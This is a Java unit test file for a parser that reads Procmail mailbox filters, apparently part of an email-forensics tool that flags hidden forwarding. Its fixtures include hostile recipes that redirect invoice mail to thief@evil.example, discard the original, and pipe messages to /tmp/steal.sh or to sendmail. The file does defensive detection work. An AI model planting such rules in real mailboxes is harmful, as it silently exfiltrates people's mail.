package org.mimawari.connector.export.script;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mimawari.connector.export.ExportFiles;
import org.mimawari.evidence.AutoReply;
import org.mimawari.evidence.MailboxRule;
import org.mimawari.evidence.RuleAction;
import org.mimawari.evidence.RuleAction.Type;
import org.mimawari.evidence.RuleCondition;
import org.mimawari.evidence.RuleCondition.Field;
import org.mimawari.evidence.RuleTrait;

class ProcmailTest {

    private static final Procmail LANGUAGE = new Procmail();

    @TempDir
    private Path folder;

    private static MailboxRule only(String text) {
        assertThat(Filters.rules(LANGUAGE, text)).hasSize(1);
        return Filters.rules(LANGUAGE, text).get(0);
    }

    private int recognises(String name, String content) {
        return ExportFiles.recognises(new FilterFiles(LANGUAGE), new ExportFiles(folder).file(name, content));
    }

    @Test
    void isKnownByItsRecipes() {
        assertThat(recognises("x.txt", "# a\n:0:\n* ^Subject:.*x\nx\n")).isGreaterThan(50);
        assertThat(recognises(".procmailrc", "MAILDIR=$HOME/Mail\n")).isGreaterThan(50);
        assertThat(recognises("x.txt", "time: 10:0\nsomething else\n")).isLessThan(50);
    }

    @Test
    void seesWhereMailIsSentOnAndWhetherACopyStays() {
        MailboxRule rule = only(":0\n* ^Subject:.*(invoice|請求)\n! thief@evil.example, b@evil.example\n");
        assertThat(rule.conditions()).containsExactly(RuleCondition.of(Field.SUBJECT, List.of("invoice", "請求")));
        assertThat(rule.actions()).containsExactly(RuleAction.of(Type.REDIRECT, "thief@evil.example", "b@evil.example"));
        assertThat(rule.traits()).containsExactlyInAnyOrder(RuleTrait.STOPS, RuleTrait.KEEPS_NO_COPY);
        assertThat(only(":0 c\n! thief@evil.example\n").traits()).isEmpty();
    }

    @Test
    void aCopyWhoseOriginalIsThrownAwayDoesNotStay() {
        assertThat(Filters.rules(LANGUAGE, ":0 c\n! thief@evil.example\n\n:0\n/dev/null\n").get(0).traits())
                .contains(RuleTrait.KEEPS_NO_COPY);
        assertThat(Filters.rules(LANGUAGE, "DEFAULT=/dev/null\n:0 c\n! thief@evil.example\n")).hasSize(2)
                .first().extracting(MailboxRule::traits).isEqualTo(Set.of(RuleTrait.KEEPS_NO_COPY));
    }

    @Test
    void foldersAndNowhereAndTheInbox() {
        assertThat(only(":0:\n* ^From:.*bank\\.example\nRSS/\n").actions()).containsExactly(RuleAction.of(Type.MOVE, "RSS/"));
        assertThat(only(":0\n* ^FROM_MAILER\n/dev/null\n").conditions()).containsExactly(RuleCondition.of(Field.IS_BOUNCE, List.of()));
        assertThat(Filters.read(LANGUAGE, ":0:\n* ^TO_info@shop\\.example\n$DEFAULT\n")).isEmpty();
    }

    @Test
    void variablesHideNoTarget() {
        assertThat(only("X=thief\nY=\"evil.example\"\n:0\n! ${X}@$Y\n").actions())
                .containsExactly(RuleAction.of(Type.REDIRECT, "thief@evil.example"));
        assertThat(only(":0\n| $SENDMAIL -oi thief@evil.example\n").actions())
                .containsExactly(RuleAction.of(Type.REDIRECT, "thief@evil.example"));
    }

    @Test
    void programsAreNamedAlsoInConditionsAndAssignments() {
        assertThat(only(":0\n| /tmp/steal.sh\n").actions()).containsExactly(RuleAction.of(Type.EXECUTE, "/tmp/steal.sh"));
        assertThat(Filters.rules(LANGUAGE, ":0\n* ? /tmp/a.sh\n/dev/null\n")).flatExtracting(MailboxRule::actions)
                .contains(RuleAction.of(Type.EXECUTE, "/tmp/a.sh"));
        assertThat(only("X=`/tmp/b.sh`\n").actions()).containsExactly(RuleAction.of(Type.EXECUTE, "/tmp/b.sh"));
        assertThat(only(":0 fw\n| /usr/bin/spamc\n").actions()).containsExactly(RuleAction.of(Type.OTHER, "spamc"));
        assertThat(only(":0\n| /tmp/x | sendmail a@evil.example\n").actions()).extracting(RuleAction::type).containsExactly(Type.EXECUTE);
    }

    @Test
    void theUsualReplyIsAReply() {
        assertThat(Filters.read(LANGUAGE, ":0 hc\n* !^FROM_DAEMON\n| (formail -rt; echo \"Away\") | $SENDMAIL -t\n"))
                .hasAtLeastOneElementOfType(AutoReply.class);
    }

    @Test
    void blocksAddTheirConditionsAndElseTurnsThemRound() {
        List<MailboxRule> rules = Filters.rules(LANGUAGE, """
                # 請求書
                :0
                * ^Subject:.*invoice
                {
                  :0 c
                  * > 1000
                  ! thief@evil.example
                  :0
                  /dev/null
                }
                :0 E
                Other/
                """);
        assertThat(rules).extracting(rule -> rule.conditions().size()).containsExactly(2, 1, 1);
        assertThat(rules.get(0).traits()).contains(RuleTrait.KEEPS_NO_COPY);
        assertThat(rules.get(2).conditions().get(0).negated()).isTrue();
    }

    @Test
    void otherFilesAndBrokenLinesAreSaid() {
        assertThat(only("INCLUDERC=$HOME/.more.rc\n").readable()).isFalse();
        assertThat(Filters.rules(LANGUAGE, ":0\n! a@evil.example\n~~ what ~~\n")).hasSize(2).last()
                .extracting(MailboxRule::readable).isEqualTo(false);
    }
}
